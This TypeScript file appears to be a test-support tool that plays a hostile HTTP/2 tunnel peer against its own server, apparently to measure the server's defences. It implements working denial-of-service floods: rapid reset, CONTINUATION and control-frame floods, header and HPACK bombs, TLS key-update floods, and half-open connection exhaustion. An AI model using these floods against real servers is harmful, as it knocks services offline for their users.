/**
 * A hostile peer with a valid certificate: `flooder.ts <kind> <ip> <seconds> <authority> <key> <chain> <roots>`.
 * Opens tunnels to port 15008 and floods each until the other side closes it, as fast as a link of 1 Gbit/s would let it;
 * prints `flooding` when the first is open, and at the end one JSON line (`FloodReport`).
 * `half-open` instead opens <seconds> connections that begin a greeting and never finish it, tells, and holds them until
 * killed; `half-greeted` the same with a whole greeting, so that the other side has to answer it.
 */
import { once } from 'node:events';
import { readFileSync } from 'node:fs';
import net from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import tls from 'node:tls';
import { lastLoopTime } from '../../../src/sys/loop-time.ts';
import { FLAG, FRAME, H2, PREFACE } from '../../../src/wire/h2-protocol.ts';
import {
  frame,
  headersFrames,
  pingFrame,
  resetFrame,
  settingsFrame,
  windowUpdateFrame,
} from '../../../src/wire/h2-write.ts';
import { HpackEncoder } from '../../../src/wire/hpack-encoder.ts';
import { clientHello } from '../../support/client-hello.ts';
import { forgeTls } from '../../support/tls-records.ts';

export interface FloodReport {
  readonly sessions: number;
  /** How many of them the other side closed; the last one may have met the end of the time. */
  readonly closed: number;
  readonly frames: number;
  readonly mostBytes: number;
  /** The longest that a tunnel lived from its first flooded frame on, milliseconds. */
  readonly mostMs: number;
  /** GOAWAY codes seen, by number of sessions. */
  readonly goaways: Readonly<Record<number, number>>;
}

const NONE = new Uint8Array(0);
const EIGHT = new Uint8Array(8);
const BATCH = 64;
/** Connections begun at once: more than the listener queues would wait a second for their next try. */
const BACKLOG = 100;
/** However slow the machine is, one tunnel is flooded to its end. */
const FIRST_MS = 30_000;
/** 1 Gbit/s. */
const BYTES_PER_MS = 125_000;
const [kind = '', ip = '', amount = '', authority = '', keyFile = '', chainFile = '', rootsFile = ''] =
  process.argv.slice(2);

function block(fields: readonly (readonly [name: string, value: string])[]): Uint8Array {
  const encoder = new HpackEncoder();
  for (const [name, value] of fields) encoder.field(name, value);
  return encoder.finish();
}

const CONNECT = [
  [':method', 'CONNECT'],
  [':authority', authority],
] as const;

function headers(streamId: number, fields: readonly (readonly [string, string])[] = CONNECT): Uint8Array {
  return headersFrames(streamId, block(fields), false, 16_384);
}

/** A 4,000-octet header put into the dynamic table once, then named so often that the list has 4 MB. */
function hpackBomb(): Uint8Array {
  const value = 'x'.repeat(4_000);
  const literal = Buffer.concat([
    Buffer.from([0x40, 1]),
    Buffer.from('b'),
    Buffer.from([0x7f, 0xa1, 0x1e]),
    Buffer.from(value),
  ]);
  return Buffer.concat([block(CONNECT), literal, Buffer.alloc(1_000, 0xbe)]);
}

/** Of TLS, below all frames. */
const KEY_UPDATE = 'key update';

/** Frames number `n` of a session, n from 0; stream ids are odd and grow. */
const FLOODS: Readonly<Record<string, (n: number) => Uint8Array>> = {
  'rapid reset': (n) => Buffer.concat([headers(2 * n + 1), resetFrame(2 * n + 1, H2.cancel)]),
  continuation: (n) =>
    n === 0 ? frame(FRAME.headers, 0, 1, block(CONNECT)) : frame(FRAME.continuation, 0, 1, block([['a', 'b']])),
  'empty continuation': (n) =>
    n === 0 ? frame(FRAME.headers, 0, 1, block(CONNECT)) : frame(FRAME.continuation, 0, 1, NONE),
  ping: () => pingFrame(EIGHT, false),
  settings: () => settingsFrame([[3, 100]]),
  'empty data': (n) => (n === 0 ? headers(1) : frame(FRAME.data, 0, 1, NONE)),
  'window update': () => windowUpdateFrame(0, 1),
  priority: () => frame(FRAME.priority, 0, 3, Uint8Array.of(0, 0, 0, 1, 0)),
  'unknown frame': () => frame(0xfa, 0, 0, EIGHT),
  'malformed HPACK': () => frame(FRAME.headers, FLAG.endHeaders, 1, Uint8Array.of(0xff, 0xff, 0xff, 0xff, 0xff, 0xff)),
  'header bomb': (n) => headers(2 * n + 1, [...CONNECT, ['b', 'x'.repeat(60_000)], ['c', 'x'.repeat(60_000)]]),
  'HPACK bomb': (n) => headersFrames(2 * n + 1, hpackBomb(), false, 16_384),
  'CONNECT with :path': (n) => headers(2 * n + 1, [...CONNECT, [':path', '/']]),
  'odd authority': (n) => headers(2 * n + 1, [CONNECT[0], [':authority', `user@${n}:x`]]),
  'data without a stream': (n) => frame(FRAME.data, 0, 2 * n + 1, EIGHT),
};

class Tally {
  sessions = 0;
  closed = 0;
  frames = 0;
  mostBytes = 0;
  mostMs = 0;
  readonly goaways: Record<number, number> = {};
}

const tally = new Tally();
const material = keyFile === '' ? undefined : { key: read(keyFile), cert: read(chainFile), ca: read(rootsFile) };

/** A flooder of another machine would take no CPU of this one. */
function giveWay(): void {
  lastLoopTime.giveWay?.();
}

function read(path: string): string {
  return readFileSync(path, 'utf8');
}

const OPTIONS: tls.ConnectionOptions = {
  ...material,
  host: ip,
  port: 15_008,
  ALPNProtocols: ['h2'],
  checkServerIdentity: () => undefined,
};

/** A tunnel that is closed may be so before its handshake. */
interface Tunnel {
  readonly socket: tls.TLSSocket;
  readonly sent: net.Socket;
  /** As one write of frames. */
  readonly record: (frames: Uint8Array) => Uint8Array;
  /** Frames, or what else floods, number `n` of this tunnel. */
  readonly make: (n: number) => Uint8Array;
}

async function openTunnel(make: (n: number) => Uint8Array): Promise<Tunnel> {
  const socket = tls.connect(OPTIONS);
  socket.on('error', () => {});
  await Promise.race([once(socket, 'secureConnect'), once(socket, 'close')]);
  return { socket, sent: socket, record: (frames) => frames, make };
}

async function openForged(): Promise<Tunnel> {
  const { sent, received: socket, maker } = await forgeTls(OPTIONS);
  return { socket, sent, record: (frames) => maker.data(frames), make: () => maker.keyUpdate() };
}

/** One tunnel, flooded until the other side closes it or the time is over. */
async function session(open: () => Promise<Tunnel>, untilMs: number): Promise<void> {
  const { socket, sent, record, make } = await open();
  const { promise: closed, resolve } = Promise.withResolvers<void>();
  if (socket.destroyed) resolve();
  else socket.once('close', () => resolve());
  // Not by `once`, for which an error is another end than a close.
  const drained = (): Promise<void> => new Promise((taken) => sent.once('drain', () => taken()));
  if (tally.sessions === 0) process.stdout.write('flooding\n');
  tally.sessions += 1;
  watchGoaway(socket);
  sent.write(record(Buffer.concat([PREFACE, settingsFrame([])])));
  const startedMs = performance.now();
  let bytes = 0;
  for (let n = 0; !socket.destroyed && performance.now() < untilMs; n += BATCH) {
    giveWay();
    const batch = Buffer.concat(Array.from({ length: BATCH }, (_, i) => make(n + i)));
    bytes += batch.length;
    tally.frames += BATCH;
    const isTaken = sent.write(batch);
    // A turn for the answers of the other side; without one the GOAWAY would be lost in the reset that follows it.
    await (isTaken ? new Promise((resolve) => setImmediate(resolve)) : Promise.race([drained(), closed]));
    const aheadMs = startedMs + bytes / BYTES_PER_MS - performance.now();
    if (aheadMs > 1) await sleep(aheadMs);
  }
  tally.mostBytes = Math.max(tally.mostBytes, bytes);
  tally.mostMs = Math.max(tally.mostMs, Math.round(performance.now() - startedMs));
  if (performance.now() < untilMs) tally.closed += 1;
  socket.destroy();
}

function watchGoaway(socket: tls.TLSSocket): void {
  let seen = Buffer.alloc(0);
  socket.on('data', (chunk: Buffer) => {
    seen = Buffer.concat([seen, chunk]);
    while (seen.length >= 9) {
      const end = 9 + seen.readUIntBE(0, 3);
      if (seen.length < end) return;
      if (seen[3] === FRAME.goaway) {
        const code = seen.readUInt32BE(13);
        tally.goaways[code] = (tally.goaways[code] ?? 0) + 1;
        socket.destroy();
      }
      seen = seen.subarray(end);
    }
  });
}

/** The first octets of a ClientHello that says it is 512 long. */
const HALF_HELLO = Buffer.from('1603010200010001fc0303', 'hex');

async function halfOpen(count: number, greeting: Uint8Array): Promise<void> {
  let connected = 0;
  let refused = 0;
  let closed = 0;
  for (let i = 0; i < count; ) {
    const batch = Array.from({ length: Math.min(BACKLOG, count - i) }, () => {
      giveWay();
      const socket = net.connect({ host: ip, port: 15_008 });
      const { promise, resolve } = Promise.withResolvers<void>();
      socket.once('connect', () => {
        connected += 1;
        if (connected === 1) process.stdout.write('flooding\n');
        socket.write(greeting);
        resolve();
      });
      socket.once('error', () => {
        refused += socket.bytesWritten === 0 ? 1 : 0;
        resolve();
      });
      socket.once('close', () => (closed += 1));
      return promise;
    });
    i += batch.length;
    await Promise.all(batch);
  }
  process.stdout.write(`${JSON.stringify({ connected, refused, closed })}\n`);
  process.stdin.resume();
}

if (kind === 'half-open') {
  await halfOpen(Number(amount), HALF_HELLO);
} else if (kind === 'half-greeted') {
  await halfOpen(Number(amount), await clientHello());
} else {
  const make = FLOODS[kind];
  if (make === undefined && kind !== KEY_UPDATE) throw new Error(`no flood is called ${kind}`);
  const open = (): Promise<Tunnel> => (make === undefined ? openForged() : openTunnel(make));
  const untilMs = performance.now() + Number(amount) * 1_000;
  await session(open, performance.now() + FIRST_MS);
  while (performance.now() < untilMs) await session(open, untilMs);
  process.stdout.write(`${JSON.stringify(tally satisfies FloodReport)}\n`);
}
